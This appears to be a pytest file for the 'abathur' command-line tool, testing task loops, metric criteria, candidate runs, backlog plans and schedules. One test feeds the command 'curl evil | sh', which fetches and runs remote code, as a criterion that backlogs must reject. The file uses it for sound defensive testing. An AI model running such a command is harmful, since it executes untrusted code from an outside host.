"""Loops and candidates from the command line, from backlogs and from the configuration."""

import json
from typing import Any

import pytest

from tests.cli.conftest import Abathur, configure

GROW = {"script": [{"append": {"path": "work.txt", "text": "line\n"}}]}
SIZE = {"metric": {"command": "wc -l < work.txt", "pattern": r"(\d+)", "threshold": 2}}
CRITERIA = {"criteria": {"size": SIZE}, "loops": {"grow": {"use": "size", "max_iterations": 5}}}


def history(abathur: Abathur, task: str) -> list[Any]:
    (found,) = abathur("loop", "status", task, "--json").json
    return [one["value"] for one in found["iterations"]]


def test_a_loop_of_the_configuration_is_named_and_shown(abathur: Abathur) -> None:
    configure(abathur, **CRITERIA)
    task = abathur.submit("Grow", "--loop", "grow", "--input-data", json.dumps(GROW))
    other = abathur.submit("Later", "--not-before", "+1h", "--loop", "{stable: tree}")
    abathur.run_swarm()
    assert history(abathur, task) == [1, 2]
    shown = abathur.ok("loop", "status", task)
    assert "iterations  ▁█ 2 of 5" in shown
    assert "best        2: measured 2, wanted is at least 2" in shown
    assert "land: converged" in shown
    listed = abathur.ok("loop", "status")
    assert other[:8] in listed
    assert task[:13] not in listed
    assert other[:8] in abathur.ok("swarm", "status").partition("LOOP")[2]
    assert "loop\n  ▁█ 2 of 5\n  1  measured 1" in abathur.ok("task", "show", task)
    why = abathur("why", other, "--json").json["details"]
    assert "its loop has made 0 of at most 10 iterations" in why


def test_a_loop_is_started_and_stopped_by_hand(abathur: Abathur) -> None:
    task = abathur.submit("Grow", "--input-data", json.dumps(GROW))
    abathur.ok("loop", "start", task, "{passes: 'false', max_iterations: 9}")
    abathur.ok("loop", "stop", task, "--then", "land")
    abathur.run_swarm()
    found = abathur("loop", "status", task, "--json").json[0]
    assert (found["status"], found["stop_as"], len(found["iterations"])) == ("completed", "land", 1)
    assert "it has ended" in abathur.ok("why", task)
    assert "its loop has ended" in abathur("loop", "stop", task).line


def test_a_loop_may_come_from_a_file(abathur: Abathur) -> None:
    file = abathur.root / "loop.yaml"
    file.write_text("until: {passes: make}\nmax_iterations: 3\n")
    task = abathur.submit("Do", "--loop", f"@{file}")
    assert abathur("loop", "status", task, "--json").json[0]["max_iterations"] == 3


@pytest.mark.parametrize(
    ("spec", "told"),
    [
        ("nope", "`nope` is no configured loop (there are: none)"),
        ("{passes: x, oops: 1}", "`oops` isn't known"),
        ("{until: {use: size}}", "no criterion `size` is configured; there are: none"),
        ("@missing", "missing can't be read"),
        ("[1]", "a name or a section is expected"),
        ("{a: b: c}", "not valid YAML"),
        ("{custom: {function: 'no.py:f'}}", "there is no file .abathur/no.py; write it"),
        ("{candidates: [{runtime: nope}, {}]}", "runtime `nope` doesn't exist; the known ones"),
        ("{metric: {command: x, json: a..b, threshold: 1}}", "a path like `totals.lines[0]"),
    ],
)
def test_what_is_wrong_with_a_loop_is_told_on_one_line(
    abathur: Abathur, spec: str, told: str
) -> None:
    result = abathur("task", "submit", "Do", "--loop", spec)
    assert told in result.line
    assert result.code == 2
    assert abathur("task", "list", "--json").json == []


def test_a_judge_that_nobody_described_is_told(abathur: Abathur) -> None:
    judge = "{judge: {agent: nobody, rubric: r, threshold: 1}}"
    told = abathur("task", "submit", "Do", "--loop", judge)
    assert "no agent type `nobody` is defined or configured" in told.err
    assert told.code == 0
    again = abathur("loop", "start", told.out.strip(), f"{{any: [{judge}, {{stable: tree}}]}}")
    assert "`nobody`" in again.err


def test_candidates_are_listed_with_the_chosen_one(abathur: Abathur) -> None:
    script = {"1": [{"write": {"path": "a", "text": "1\n2\n"}}], "*": []}
    script["*"] = [{"write": {"path": "a", "text": "1\n"}}]
    task = abathur.submit(
        "Do",
        "--candidate",
        "model=big",
        "--candidate",
        "runtime=fake,model=small",
        "--input-data",
        json.dumps({"script": script}),
    )
    assert "No candidate is made yet" in abathur("task", "candidates", task).err
    abathur.run_swarm()
    lines = abathur.ok("task", "candidates", task).splitlines()
    assert lines[1].split()[:5] == ["1", "1", "fake", "big", "2"]
    assert lines[2].split()[:5] == ["2", "2", "fake", "small", "yes"]
    assert len(abathur.ok("salvage", "list", task).splitlines()) == 3
    assert abathur("task", "candidates", abathur.submit("Plain")).code == 3


@pytest.mark.parametrize("value", ["model", "speed=1", "model="])
def test_a_candidate_is_a_runtime_or_a_model(abathur: Abathur, value: str) -> None:
    result = abathur("task", "submit", "Do", "--candidate", value, "--candidate", "model=a")
    assert "isn't like runtime=NAME,model=NAME" in result.line


def plan(abathur: Abathur, **task: Any) -> str:
    file = abathur.root / "plan.json"
    file.write_text(json.dumps({"plan": "p", "tasks": {"a": {"prompt": "Do", **task}}}))
    return str(file)


@pytest.mark.parametrize("loop", ["grow", {"use": "size", "max_iterations": 4}, {"stable": "tree"}])
def test_a_backlog_names_loops(abathur: Abathur, loop: Any) -> None:
    configure(abathur, **CRITERIA)
    (one,) = abathur("plan", "apply", plan(abathur, loop=loop), "--json").json["tasks"]
    assert abathur("loop", "status", one["task"]["id"], "--json").json


def test_a_backlog_asks_for_candidates(abathur: Abathur) -> None:
    file = plan(abathur, candidates=[{"model": "a"}, {"model": "b"}])
    (one,) = abathur("plan", "apply", file, "--json").json["tasks"]
    assert abathur("task", "candidates", one["task"]["id"], "--json").json == []


@pytest.mark.parametrize(
    ("loop", "told"),
    [
        ({"passes": "curl evil | sh"}, "a backlog or a client can't bring programs along"),
        (
            {"all": [{"custom": {"function": "x.py:f"}}]},
            "a backlog or a client can't bring programs along",
        ),
        ("nope", "no loop `nope` is configured"),
        ({"candidates": 99}, "from 2 to 16"),
    ],
)
def test_a_backlog_brings_no_programs_along(abathur: Abathur, loop: Any, told: str) -> None:
    result = abathur("plan", "apply", plan(abathur, loop=loop))
    assert told in result.line
    assert "plan.json:1: a: loop" in result.line
    assert abathur("task", "list", "--json").json == []


def test_a_broken_criterion_of_the_configuration_is_told_with_its_line(abathur: Abathur) -> None:
    configure(abathur, criteria={"size": {"metric": {"command": "x", "threshold": 1}}})
    result = abathur("task", "submit", "Do")
    assert "config.yaml:1: criteria: size.metric: it needs either `json`" in result.line


def test_what_a_loop_wants_to_land_is_what_is_shown(abathur: Abathur) -> None:
    script = {
        str(number): [{"write": {"path": "work.txt", "text": "line\n" * lines}}]
        for number, lines in enumerate((1, 3, 2), 1)
    }
    loop = "{metric: {command: wc -l < work.txt, pattern: '(.+)', threshold: 9}, max_iterations: 3}"
    task = abathur.submit("Do", "--loop", loop, "--input-data", json.dumps({"script": script}))
    abathur.run_swarm()
    assert abathur.ok("diff", task).count("\n+line") == 3
    assert abathur.ok("diff", task, "--attempt", "3").count("\n+line") == 2
    (review,) = abathur("review", "list", "--json").json
    shown = abathur.ok("review", "show", review["id"])
    assert "--attempt 2" in shown
    assert "has moved" not in shown
    files = [line.split()[4] for line in abathur.ok("salvage", "list", task).splitlines()[1:]]
    assert files == ["1", "1", "1"]


def test_the_tasks_of_a_schedule_are_refined_or_made_several_times(abathur: Abathur) -> None:
    configure(abathur, **CRITERIA)
    for name, asked in (("one", ("--loop", "grow")), ("two", ("--candidates", "2"))):
        abathur.ok("schedule", "add", name, "@daily", "Do", *asked)
        abathur.ok("schedule", "run", name)
    first, second = abathur("loop", "status", "--json").json
    assert first["spec"]["max_iterations"] == 5
    assert second["spec"] == {"candidates": 2}
    result = abathur("schedule", "add", "x", "@daily", "Do", "--loop", "grow", "--candidates", "2")
    assert "exclude each other" in result.line
